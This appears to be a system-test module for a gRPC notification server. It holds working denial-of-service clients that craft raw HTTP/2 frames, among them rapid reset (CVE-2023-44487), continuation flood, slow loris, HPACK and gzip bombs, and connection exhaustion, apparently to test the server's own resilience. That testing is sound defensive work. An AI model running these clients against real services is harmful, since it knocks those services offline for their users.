"""Clients that mean harm to a gRPC server, each in its own way and at a bounded rate.

``python -m tests.system.abusers NAME HOST:PORT`` goes on until it is killed. Frames are made one by
one, for no HTTP/2 library lets its user do this. What is not answered as they wish is done again:
a connection that the server ends is opened anew, at most some hundred times a second.
"""

from __future__ import annotations

import asyncio
import os
import sys
import zlib
from collections.abc import Awaitable, Callable, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from functools import partial
from typing import Final

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from ironcore.notification.v1 import router_service_pb2 as pb

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BEGUN: Final = "begun\n"
"""Said once the attack is what it is to be."""
_SOON: Final = 0.3
SERVICE: Final = "/ironcore.notification.v1.RouterService/"
_BEAT: Final = 0.01
_MOST_STREAMS: Final = 900
"""Of a connection: below what the server allows, so that it is the attack that is measured."""


@dataclass(slots=True)
class Peer:
    """A connection to the server. ``ended`` is set when the server closes it or says goodbye."""

    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    ended: asyncio.Event = field(default_factory=asyncio.Event)
    encoder: hpack.Encoder = field(default_factory=hpack.Encoder)
    next_stream: int = 1
    open_streams: int = 0
    closed: asyncio.Task[None] | None = None

    @classmethod
    async def connect(cls, address: str, *, window: int = 65_535, reads: bool = True) -> Peer:
        """Preface and settings are sent. One that ``reads`` not leaves the server's bytes alone."""
        host, _, port = address.rpartition(":")
        peer = cls(*await asyncio.open_connection(host, int(port)))
        settings = SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: window})
        peer.writer.write(PREFACE + settings.serialize())
        if reads:
            peer.closed = asyncio.create_task(peer._read())
        return peer

    async def _read(self) -> None:
        with suppress(OSError, asyncio.IncompleteReadError):
            while True:
                head = await self.reader.readexactly(9)
                frame, length = Frame.parse_frame_header(memoryview(head))
                await self.reader.readexactly(length)
                if isinstance(frame, GoAwayFrame):
                    break
                if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                    self.writer.write(SettingsFrame(0, flags=["ACK"]).serialize())
                if isinstance(frame, RstStreamFrame) or "END_STREAM" in frame.flags:
                    self.open_streams -= 1
        self.ended.set()

    def send(self, *frames: Frame) -> None:
        self.writer.write(b"".join(frame.serialize() for frame in frames))

    def headers(
        self, method: str, extra: Sequence[tuple[str, str]] = (), *, end: bool = True
    ) -> HeadersFrame:
        """The beginning of a call, on a stream of its own."""
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        self.open_streams += 1
        block = self.encoder.encode(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", SERVICE + method),
                (":authority", "localhost"),
                ("te", "trailers"),
                ("content-type", "application/grpc"),
                *extra,
            ]
        )
        return HeadersFrame(stream, block, flags=["END_HEADERS"] if end else [])

    async def drain(self) -> None:
        if self.ended.is_set():
            raise ConnectionResetError
        await self.writer.drain()

    def close(self) -> None:
        if self.closed is not None:
            self.closed.cancel()
        self.writer.transport.abort()


def message(body: bytes) -> bytes:
    """As gRPC frames it."""
    return b"\0" + len(body).to_bytes(4) + body


def emit_body(size: int = 40) -> bytes:
    request = pb.EmitRequest()
    request.event.type = "backup.completed"
    request.event.summary = "x" * size
    return message(request.SerializeToString())


def call(peer: Peer, method: str, body: bytes) -> tuple[Frame, ...]:
    """A whole call of one request."""
    headers = peer.headers(method)
    data = DataFrame(headers.stream_id, body, flags=["END_STREAM"])
    return headers, data


async def at_rate(peer: Peer, rate: float, frames: Callable[[], Sequence[Frame]]) -> None:
    """``frames()`` so many times a second, until the server has had enough."""
    owed = 0.0
    while True:
        owed += rate * _BEAT
        while owed >= 1:
            peer.send(*frames())
            owed -= 1
        await peer.drain()
        await asyncio.sleep(_BEAT)


async def ping_flood(address: str) -> None:
    peer = await Peer.connect(address)
    try:
        await at_rate(peer, 2000, lambda: [PingFrame(0, b"12345678")])
    finally:
        peer.close()


async def settings_flood(address: str) -> None:
    peer = await Peer.connect(address)
    try:
        await at_rate(peer, 2000, lambda: [SettingsFrame(0, {SettingsFrame.ENABLE_PUSH: 0})])
    finally:
        peer.close()


async def unread_settings(address: str) -> None:
    """The acknowledgements pile up at the server."""
    peer = await Peer.connect(address, reads=False)
    try:
        await at_rate(peer, 2000, lambda: [SettingsFrame(0, {SettingsFrame.ENABLE_PUSH: 0})])
    finally:
        peer.close()


async def window_flood(address: str) -> None:
    peer = await Peer.connect(address)
    try:
        await at_rate(peer, 2000, lambda: [WindowUpdateFrame(0, 1)])
    finally:
        peer.close()


async def priority_flood(address: str) -> None:
    peer = await Peer.connect(address)
    try:
        await at_rate(peer, 2000, lambda: [PriorityFrame(1, depends_on=0, stream_weight=1)])
    finally:
        peer.close()


async def rapid_reset(address: str) -> None:
    """Calls are begun and taken back at once (CVE-2023-44487)."""
    peer = await Peer.connect(address)

    def frames() -> Sequence[Frame]:
        headers = peer.headers("Emit")
        peer.open_streams -= 1
        return headers, RstStreamFrame(headers.stream_id, 8)

    try:
        await at_rate(peer, 300, frames)
    finally:
        peer.close()


async def cancel_storm(address: str) -> None:
    """Whole Emits, each cancelled while the server works on it."""
    peer = await Peer.connect(address)

    def frames() -> Sequence[Frame]:
        headers, data = call(peer, "Emit", emit_body())
        peer.open_streams -= 1
        return headers, data, RstStreamFrame(headers.stream_id, 8)

    try:
        await at_rate(peer, 100, frames)
    finally:
        peer.close()


async def stalled_watches(address: str) -> None:
    """Watches and lists whose answers nobody takes.

    They are begun one by one, for a hundred lists at once are work, read or not; and few are
    watches, for each that is told of an event costs what it costs.
    """
    peer = await Peer.connect(address, window=0)
    try:
        for number in range(100):
            method = "WatchEvents" if number % 5 == 0 else "ListEvents"
            peer.send(*call(peer, method, message(b"")))
            await peer.drain()
            await asyncio.sleep(2 * _BEAT)
        print(BEGUN, end="", flush=True)
        while True:
            await peer.drain()
            await asyncio.sleep(1)
    finally:
        peer.close()


async def slow_loris(address: str) -> None:
    """Many requests that never end, a byte at a time."""
    peer = await Peer.connect(address)
    try:
        streams = []
        for _ in range(_MOST_STREAMS):
            headers = peer.headers("Emit")
            streams.append(headers.stream_id)
            peer.send(headers)
        body = emit_body(2000)
        for byte in body:
            for stream in streams:
                peer.send(DataFrame(stream, bytes([byte])))
            await peer.drain()
            await asyncio.sleep(1)
    finally:
        peer.close()


async def hpack_bomb(address: str) -> None:
    """A large header in the table, which a few bytes repeat over and over."""
    peer = await Peer.connect(address)
    large = ("x-large", "y" * 3000)

    def frames() -> Sequence[Frame]:
        return [peer.headers("Emit", [large] * 200)]

    try:
        await at_rate(peer, 50, frames)
    finally:
        peer.close()


async def continuation_flood(address: str) -> None:
    """Headers that never end (CVE-2024-24549 and its like)."""
    peer = await Peer.connect(address)
    headers = peer.headers("Emit", end=False)
    block = hpack.Encoder().encode([(f"x-{n}", "z" * 100) for n in range(100)])
    peer.send(headers)
    try:
        await at_rate(peer, 100, lambda: [ContinuationFrame(headers.stream_id, block)])
    finally:
        peer.close()


async def empty_frames(address: str) -> None:
    """Data frames without data, of a call that never ends."""
    peer = await Peer.connect(address)
    headers = peer.headers("Emit")
    peer.send(headers)
    try:
        await at_rate(peer, 2000, lambda: [DataFrame(headers.stream_id, b"")])
    finally:
        peer.close()


async def large_messages(address: str) -> None:
    """Messages that are larger than the server takes."""
    peer = await Peer.connect(address)
    claim = b"\0" + (5 * 1024 * 1024).to_bytes(4) + b"x" * 8000

    def frames() -> Sequence[Frame]:
        headers = peer.headers("Emit")
        return headers, DataFrame(headers.stream_id, claim)

    try:
        await at_rate(peer, 50, frames)
    finally:
        peer.close()


async def gzip_bomb(address: str) -> None:
    """Some hundred kilobytes that unpack to 300 megabytes, over and over."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(packer.compress(bytes(2**20)) for _ in range(300)) + packer.flush()
    while True:
        peer = await Peer.connect(address)
        try:
            headers = peer.headers("Emit", [("grpc-encoding", "gzip")])
            body = b"\x01" + len(packed).to_bytes(4) + packed
            peer.send(headers)
            for start in range(0, len(body), 16_000):
                peer.send(DataFrame(headers.stream_id, body[start : start + 16_000]))
                await peer.drain()
                await asyncio.sleep(_BEAT)
        finally:
            peer.close()


async def large_metadata(address: str) -> None:
    peer = await Peer.connect(address)
    peer.encoder.header_table_size = 0
    large = [(f"x-{n}", "v" * 1000) for n in range(16)]
    try:
        await at_rate(peer, 50, lambda: call_with(peer, large))
    finally:
        peer.close()


def call_with(peer: Peer, extra: Sequence[tuple[str, str]]) -> Sequence[Frame]:
    """An Emit with more metadata, which may need more than one frame."""
    headers = peer.headers("Emit", extra)
    first, rest = headers.data[:16_000], headers.data[16_000:]
    headers.data = first
    frames: list[Frame] = [headers]
    if rest:
        headers.flags.discard("END_HEADERS")
        frames.append(ContinuationFrame(headers.stream_id, rest, flags=["END_HEADERS"]))
    frames.append(DataFrame(headers.stream_id, emit_body(), flags=["END_STREAM"]))
    return frames


CONNECTIONS: Final = 2000


async def silent_connections(address: str) -> None:
    """Sockets that are opened and say nothing."""
    host, _, port = address.rpartition(":")
    await _hold(lambda: asyncio.open_connection(host, int(port)))


async def idle_connections(address: str) -> None:
    """Connections that speak HTTP/2 and then call nothing."""

    async def connect() -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        peer = await Peer.connect(address, reads=False)
        return peer.reader, peer.writer

    await _hold(connect)


async def _hold(
    connect: Callable[[], Awaitable[tuple[asyncio.StreamReader, asyncio.StreamWriter]]],
) -> None:
    """As many connections as wanted, 500 new ones a second at most; what is closed is not replaced,

    for a flood of handshakes is another attack.
    """
    held: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    while len(held) < CONNECTIONS:
        with suppress(OSError):
            held.append(await connect())
        if len(held) % 5 == 0:
            await asyncio.sleep(_BEAT)
    print(BEGUN, end="", flush=True)
    await asyncio.Event().wait()


ATTACKS: Final[dict[str, Callable[[str], Awaitable[None]]]] = {
    each.__name__: each
    for each in (
        ping_flood,
        settings_flood,
        unread_settings,
        window_flood,
        priority_flood,
        rapid_reset,
        cancel_storm,
        stalled_watches,
        slow_loris,
        hpack_bomb,
        continuation_flood,
        empty_frames,
        large_messages,
        gzip_bomb,
        large_metadata,
        silent_connections,
        idle_connections,
    )
}


_SAY_WHEN: Final = frozenset({"stalled_watches", "silent_connections", "idle_connections"})
"""These say for themselves when they have begun."""


async def attack(name: str, address: str) -> None:
    """Again and again, until cancelled."""
    if name not in _SAY_WHEN:
        asyncio.get_running_loop().call_later(_SOON, partial(print, BEGUN, end="", flush=True))
    while True:
        with suppress(OSError):
            await ATTACKS[name](address)
        await asyncio.sleep(_BEAT)


if __name__ == "__main__":
    os.nice(10)
    asyncio.run(attack(*sys.argv[1:3]))
